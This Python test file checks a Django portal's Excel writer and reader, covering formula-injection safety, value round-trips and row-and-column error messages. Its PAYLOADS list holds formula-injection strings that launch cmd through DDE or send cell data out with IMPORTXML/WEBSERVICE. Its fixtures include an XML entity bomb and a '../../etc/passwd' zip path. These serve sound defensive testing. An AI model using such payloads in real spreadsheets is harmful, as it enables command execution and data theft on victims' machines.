"""Excel in and out: no text becomes a formula, every value survives, every fault is named by row and column."""

import io
import zipfile
from datetime import date
from decimal import Decimal

import openpyxl
import pytest
from django import forms
from django.utils.translation import gettext_lazy as _
from django.utils.translation import gettext_noop, override
from openpyxl.styles import Font

from lipportal.shared.documents import excel
from lipportal.shared.documents.excel import Column, read_sheet, write_sheet

TEXTS = [Column("name", "Name"), Column("organization", "Organization"), Column("note", "Note", may_miss=True)]

PAYLOADS = [
    "=1+1",
    "=cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.test","Click")',
    '=IMPORTXML(CONCAT("http://example.test/",A1),"//a")',
    '=WEBSERVICE("http://example.test")',
    '=DDE("cmd";"/C calc";"x")',
    "=MSEXCEL|'\\..\\..\\cmd.exe'!''",
    "==1+1",
    "= 1+1",
    " =1+1",
    "=\u00a01+1",
    "+1+1",
    "+1 519 555 0100",
    "+cmd|' /C calc'!A0",
    "-1+1",
    "-5",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "@name",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "\r\n=1+1",
    "\t@SUM(1)",
    "＝1+1",
    "＋1+1",
    "－1+1",
    "＠SUM(1)",
    "'=1+1",
    '"=1+1"',
    '""=1+1',
    ";=1+1",
    ",=1+1",
    "|=1+1",
    "x\t=1+1",
    "x\n=1+1",
    "#REF!",
    "#N/A",
    "TRUE",
    "{=SUM(A1:A2)}",
    '=1+1";=1+1;"',
    "_x000D_=1+1",
    "0x0A=1",
    "1E5",
    "007",
    "2026-05-12",
    "«\u00a0=1+1\u00a0»",
    "\u202e=1+1",
    "=SUM(A1)\x0b",
]


def _parts(workbook):
    with zipfile.ZipFile(io.BytesIO(workbook)) as package:
        return {name: package.read(name).decode("utf-8", "replace") for name in package.namelist()}


def _workbook(*rows):
    book = openpyxl.Workbook()
    for row in rows:
        book.active.append(row)
    stream = io.BytesIO()
    book.save(stream)
    return stream.getvalue()


@pytest.mark.parametrize("column", [column.key for column in TEXTS])
@pytest.mark.parametrize("payload", PAYLOADS)
def test_write_sheet_keeps_every_payload_as_text(payload, column):
    workbook = write_sheet(payload, TEXTS, [{"name": "x", "organization": "x", column: payload}], notes=[payload])

    for sheet in openpyxl.load_workbook(io.BytesIO(workbook)).worksheets:
        assert {cell.data_type for row in sheet.iter_rows() for cell in row} <= {"s", "n"}
        assert all(cell.value is None for row in sheet.iter_rows() for cell in row if cell.data_type == "n")
    assert not any("<f>" in part or "<f " in part for part in _parts(workbook).values())


@pytest.mark.parametrize("payload", PAYLOADS)
def test_text_survives_being_written_and_read_again(payload):
    expected = payload.replace("\x0b", "")
    workbook = write_sheet("People", TEXTS, [{"name": payload, "organization": "x"}])

    report = read_sheet(workbook, TEXTS)

    assert (report.problems, report.rows[0].problems) == ([], [])
    assert report.rows[0].values["name"] == expected


def test_text_stays_text_when_somebody_edits_the_cell():
    sheet = openpyxl.load_workbook(io.BytesIO(write_sheet("x", TEXTS, [{"name": "=1+1"}]))).active

    assert (sheet["A2"].number_format, sheet["A2"].quotePrefix) == ("@", True)


def test_numbers_and_days_are_written_as_such_and_survive():
    columns = [Column("hours", "Hours", "number"), Column("count", "Count", "whole"), Column("on", "Day", "date")]
    row = {"hours": Decimal("-12.5"), "count": -3, "on": date(2026, 5, 12)}
    workbook = write_sheet("x", columns, [row])

    sheet = openpyxl.load_workbook(io.BytesIO(workbook)).active
    assert [cell.data_type for cell in sheet[2]] == ["n", "n", "d"]
    assert read_sheet(workbook, columns).rows[0].values == row


def test_text_in_a_number_column_is_written_as_text():
    workbook = write_sheet("x", [Column("hours", "Hours", "number")], [{"hours": "=1+1"}])

    assert openpyxl.load_workbook(io.BytesIO(workbook)).active["A2"].data_type == "s"


def test_headings_stay_in_sight_and_on_each_printed_page():
    workbook = openpyxl.load_workbook(io.BytesIO(write_sheet("Members", TEXTS, [{"name": "x"}], notes=["a note"])))
    sheet = workbook.active

    assert (sheet.freeze_panes, sheet.auto_filter.ref, sheet.print_title_rows) == ("A2", "A1:C2", "$1:$1")
    assert sheet["A1"].font.bold
    assert workbook["Notes"]["A1"].value == "a note"
    assert (workbook.properties.title, workbook.properties.language) == ("Members", "en")


@pytest.mark.parametrize(
    ("title", "expected"),
    [
        ("Plan: 2026/27 [draft]?", "Plan 2026 27 draft"),
        ("'quoted'", "quoted"),
        ("", "Portal"),
        ("History", "Portal"),
        ("é" * 40, "é" * 31),
        ("*?:/\\[]", "Portal"),
        ("=1+1", "=1+1"),
    ],
)
def test_sheet_name_is_one_that_excel_allows(title, expected):
    assert excel.sheet_name(title) == expected


def test_a_sheet_in_arabic_runs_from_right_to_left():
    with override("ar"):
        workbook = write_sheet("x", TEXTS, [])

    assert openpyxl.load_workbook(io.BytesIO(workbook)).active.sheet_view.rightToLeft


def test_characters_no_workbook_can_hold_are_left_out():
    workbook = write_sheet("x\x00", TEXTS, [{"name": "a\x00b\x1fc\ud800d"}])

    assert read_sheet(workbook, TEXTS[:1]).rows[0].values["name"] == "abcd"


def test_a_text_longer_than_a_cell_says_that_it_goes_on():
    workbook = write_sheet("x", TEXTS[:1], [{"name": "a" * 40_000}])

    assert read_sheet(workbook, TEXTS[:1]).rows[0].values["name"] == "a" * 32_766 + "…"


# --- in ----------------------------------------------------------------------------------------------------------
class PersonForm(forms.Form):
    name = forms.CharField(max_length=5)
    hours = forms.IntegerField(min_value=0, required=False)


PERSON = [Column("name", "Name"), Column("hours", "Hours", "whole", may_miss=True)]


def test_read_sheet_names_each_fault_by_row_and_column_and_keeps_right_rows():
    workbook = _workbook(["Name", "Hours"], ["Ana", 2], ["Benedict", -1], [None, None], ["Chi", "two"])

    report = read_sheet(workbook, PERSON, PersonForm)

    assert [row.sheet_row for row in report.right_rows] == [2]
    assert [(p.sheet_row, p.letter, p.heading) for row in report.wrong_rows for p in row.problems] == [
        (3, "A", "Name"),
        (3, "B", "Hours"),
        (5, "B", "Hours"),
    ]
    assert str(report.wrong_rows[1].problems[0]) == "Row 5, column B (Hours): Write a number, such as 12 or 12.5."


def test_a_fault_of_the_whole_row_has_no_column():
    class Whole(PersonForm):
        def clean(self):
            raise forms.ValidationError("They cannot both be empty.")

    problem = read_sheet(_workbook(["Name", "Hours"], ["Ana", 1]), PERSON, Whole).rows[0].problems[0]

    assert str(problem) == "Row 2: They cannot both be empty."


def test_headings_are_understood_in_both_languages_and_by_alias():
    gettext_noop("Language")
    columns = [Column("language", _("French")), Column("name", "Name", aliases=("Nom de famille",))]
    with override("fr"):
        french = str(columns[0].heading)

    report = read_sheet(_workbook(["nom  de FAMILLE *", french], ["Roy", "oui"]), columns)

    assert report.rows[0].values == {"language": "oui", "name": "Roy"}


def test_headings_may_stand_lower_and_in_another_order():
    report = read_sheet(_workbook(["Our members"], [], ["Hours", "?", "Name"], [3, "x", "Ana"]), PERSON)

    assert (report.rows[0].sheet_row, report.rows[0].values) == (4, {"hours": 3, "name": "Ana"})


def test_a_missing_column_is_named_and_no_row_is_taken():
    report = read_sheet(_workbook(["Hours"], [3]), PERSON)

    assert (report.problems, report.rows) == (["There is no column “Name”. Put it back."], [])


def test_a_sheet_without_headings_says_which_it_wants():
    report = read_sheet(_workbook(*[["a", "b"]] * 20), PERSON)

    assert report.problems == ["No row of headings was found. The first row must hold: Name."]


@pytest.mark.parametrize(
    ("value", "kind", "expected"),
    [
        (5195550100, "text", "5195550100"),
        (5195550100.0, "text", "5195550100"),
        ("  kept  ", "text", "  kept  "),
        ("1 234,5", "number", Decimal("1234.5")),
        ("Sur _xD800_ x", "text", "Sur \ufffd x"),
        ("_xD83D__xDE00_", "text", "\U0001f600"),
        ("-5", "number", Decimal(-5)),
        ("12", "whole", 12),
        (12.0, "whole", 12),
        (None, "whole", None),
        (" ", "number", None),
        ("2026-05-12", "date", date(2026, 5, 12)),
        ("2026-05-12 00:00:00", "date", date(2026, 5, 12)),
        (date(2026, 5, 12), "date", date(2026, 5, 12)),
        (date(2026, 5, 12), "text", "2026-05-12"),
    ],
)
def test_values_are_read_as_their_column_wants_them(value, kind, expected):
    columns = [Column("key", "Key"), Column("it", "It", kind)]

    assert read_sheet(_workbook(["Key", "It"], ["x", value]), columns).rows[0].values["it"] == expected


@pytest.mark.parametrize(
    ("value", "kind", "message"),
    [
        ("=1+1", "text", "The cell holds a formula. Type its result instead."),
        ("=1+1", "number", "The cell holds a formula. Type its result instead."),
        ("#REF!", "text", "The cell holds an error. Type the value instead."),
        ("1,234,567", "number", "Write a number, such as 12 or 12.5."),
        ("NaN", "number", "Write a number, such as 12 or 12.5."),
        ("Infinity", "whole", "Write a number, such as 12 or 12.5."),
        (True, "number", "Write a number, such as 12 or 12.5."),
        (date(2026, 5, 12), "number", "Write a number, such as 12 or 12.5."),
        (12.5, "whole", "Write a whole number, such as 12."),
        ("1e999999999", "whole", "Write a whole number, such as 12."),
        ("12/05/2026", "date", "Write the day as year-month-day, such as 2026-05-12."),
        ("2026-02-30", "date", "Write the day as year-month-day, such as 2026-05-12."),
        (46000, "date", "Write the day as year-month-day, such as 2026-05-12."),
    ],
)
def test_a_wrong_value_is_refused_with_what_to_do(value, kind, message):
    columns = [Column("key", "Key"), Column("it", "It", kind)]

    row = read_sheet(_workbook(["Key", "It"], ["x", value]), columns).rows[0]

    assert [(problem.letter, problem.message) for problem in row.problems] == [("B", message)]


def test_hidden_rows_are_read_and_formats_do_not_matter():
    book = openpyxl.Workbook()
    book.active.append(["Name"])
    book.active.append(["Ana"])
    book.active["A2"].font = Font(strike=True)
    book.active.row_dimensions[2].hidden = True
    stream = io.BytesIO()
    book.save(stream)

    assert read_sheet(stream.getvalue(), PERSON).rows[0].values["name"] == "Ana"


def test_more_rows_than_are_read_are_said(monkeypatch):
    monkeypatch.setattr(excel, "MOST_ROWS", 3)

    report = read_sheet(_workbook(["Name"], *[["Ana"]] * 5), PERSON)

    assert (len(report.rows), report.problems) == (3, ["Only the first 3 rows were read. Split the sheet."])


def test_one_cell_at_the_very_bottom_does_not_hold_the_reader_up():
    book = openpyxl.Workbook()
    book.active["A1"] = "Name"
    book.active["A2"] = "Ana"
    book.active["A1048576"] = "last"
    stream = io.BytesIO()
    book.save(stream)

    assert [row.values["name"] for row in read_sheet(stream.getvalue(), PERSON).rows] == ["Ana"]


def _with_part(name, text, *, compression=zipfile.ZIP_DEFLATED):
    source = _workbook(["Name"], ["Ana"])
    stream = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(source)) as package, zipfile.ZipFile(stream, "w", compression) as made:
        for part in package.namelist():
            made.writestr(part, text if part == name else package.read(part))
        if name not in package.namelist():
            made.writestr(name, text)
    return stream.getvalue()


_ENTITIES = (
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;">]><sst><si><t>&b;</t></si></sst>'
)


@pytest.mark.parametrize(
    "content",
    [
        b"",
        b"Name,Hours\nAna,2\n",
        b"PK\x03\x04" + b"\x00" * 100,
        _workbook(["Name"])[:-40],
        _with_part("xl/sharedStrings.xml", _ENTITIES),
        _with_part("xl/sharedStrings.xml", _ENTITIES.encode("utf-16")),
        _with_part("xl/worksheets/sheet1.xml", "<worksheet><sheetData><row>"),
        _with_part("xl/workbook.xml", "<nothing/>"),
        _with_part("xl/vbaProject.bin", "x"),
        _with_part("xl/media/big.xml", "a" * (40 * 1024 * 1024)),
        _with_part("../../etc/passwd", "x"),
    ],
)
def test_a_hostile_or_broken_workbook_gets_a_sentence_and_no_crash(content):
    report = read_sheet(content, PERSON, PersonForm)

    assert report.rows == []
    assert len(report.problems) == 1
    assert report.problems[0].endswith(".")


def test_a_workbook_over_the_limit_is_not_opened(monkeypatch):
    monkeypatch.setattr(excel, "MOST_BYTES", 1024 * 1024)

    report = read_sheet(b"PK\x03\x04" + b"\x00" * 1024 * 1024, PERSON)

    assert report.problems == ["The workbook is larger than 1 MB. Split it."]


def test_the_reader_refuses_to_work_without_defusedxml(monkeypatch):
    monkeypatch.setattr(excel.openpyxl, "DEFUSEDXML", False)

    with pytest.raises(RuntimeError):
        read_sheet(b"x", PERSON)
